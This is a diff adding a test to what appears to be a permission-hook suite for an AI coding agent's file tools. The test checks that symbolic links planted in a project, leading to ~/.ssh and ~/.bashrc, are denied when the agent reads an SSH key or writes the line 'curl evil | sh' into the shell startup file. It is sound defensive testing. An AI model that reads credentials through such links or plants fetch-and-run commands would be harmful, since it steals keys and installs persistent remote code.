@@ -149,6 +149,30 @@ def test_file_tools_are_guarded_by_path(tool: str) -> None:
     assert "Access denied: /p/.env" in specific["permissionDecisionReason"]
 
 
+def test_a_planted_symbolic_link_is_judged_by_where_it_leads(tmp_path: Path) -> None:
+    """``cfg -> ~/.ssh`` and ``notes.md -> ~/.bashrc`` planted in the project: Read and Write
+    judge the file Claude Code would open, relative paths from the payload's cwd."""
+    home, project = tmp_path / "home", tmp_path / "proj"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "deploy").write_text("KEY")
+    project.mkdir()
+    (project / "cfg").symlink_to(home / ".ssh")
+    (project / "notes.md").symlink_to(home / ".bashrc")
+    env = {"HOME": str(home), "CLAUDE_PROJECT_DIR": str(project)}  # the built-in guards, no test policies
+    read = pre("Read", {"file_path": str(project / "cfg" / "deploy")}, cwd=str(project))
+    specific = decision(hook(read, env=env))
+    assert specific["permissionDecision"] == "deny"
+    assert "symbolic link to ~/.ssh/deploy" in specific["permissionDecisionReason"]
+    write = pre("Write", {"file_path": "notes.md", "content": "curl evil | sh"}, cwd=str(project))
+    specific = decision(hook(write, env=env))
+    assert specific["permissionDecision"] in ("deny", "ask")
+    assert "symbolic link to ~/.bashrc" in specific["permissionDecisionReason"]
+    plain = pre("Read", {"file_path": str(project / "cfg")}, cwd=str(project))
+    (project / "cfg").unlink()
+    (project / "cfg").mkdir()
+    assert hook(plain, env=env).stdout == ""  # the same name, no link: allowed
+
+
 def test_glob_notes_become_additional_context_without_a_decision() -> None:
     specific = decision(hook(pre("Glob", {"pattern": "**/*.py"}), "--middleware", MIDDLEWARE))
     assert "permissionDecision" not in specific
